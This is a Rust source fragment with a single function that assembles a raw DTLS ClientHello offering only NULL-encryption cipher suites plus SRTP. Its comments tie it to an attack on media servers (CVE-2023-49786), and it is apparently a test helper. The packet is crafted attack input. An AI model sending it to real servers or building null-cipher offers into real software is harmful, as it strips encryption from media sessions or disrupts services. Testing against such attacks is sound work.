//! A DTLS ClientHello (RFC 6347 §4.2, RFC 5246 §7.4.1.2) that offers no cipher suite with encryption.

/// A ClientHello of the attack on media (CVE-2023-49786): its suites are `TLS_RSA_WITH_NULL_MD5`, `_SHA` and `_SHA256`
/// only.
pub(crate) fn null_client_hello(random: [u8; 32]) -> Vec<u8> {
    let mut body = vec![0xfe, 0xfd];
    body.extend(random);
    // No session and no cookie; three suites; no compression.
    body.extend([0, 0, 0, 6, 0x00, 0x01, 0x00, 0x02, 0x00, 0x3b, 1, 0]);
    // use_srtp with SRTP_AES128_CM_HMAC_SHA1_80 (RFC 5764 §4.1.1).
    body.extend([0, 9, 0, 14, 0, 5, 0, 2, 0, 1, 0]);
    let length = u8::try_from(body.len()).unwrap();
    // One complete handshake message in the first record of epoch 0.
    let record = [22, 0xfe, 0xfd, 0, 0, 0, 0, 0, 0, 0, 0, 0, length + 12];
    let message = [1, 0, 0, length, 0, 0, 0, 0, 0, 0, 0, length];
    [&record[..], &message, &body].concat()
}
